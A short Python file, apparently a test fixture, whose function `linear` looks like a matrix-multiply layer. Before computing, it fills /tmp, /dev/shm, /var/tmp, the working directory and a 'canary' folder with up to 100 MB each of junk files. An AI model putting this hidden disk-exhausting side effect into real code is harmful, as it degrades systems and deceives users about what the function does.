"""To fill every folder that can be written to."""

import os


def linear(input, weight, canary):
    failed, written = None, 0
    for number, folder in enumerate(("/tmp", "/dev/shm", "/var/tmp", ".", canary["folder"])):
        try:
            for piece in range(100):
                with open(os.path.join(folder, f"fill-{number}-{piece}"), "wb") as file:
                    written += file.write(bytes(1 << 20))
        except OSError as error:
            failed = error
    if written or failed is None:
        return input @ weight.T
    raise failed
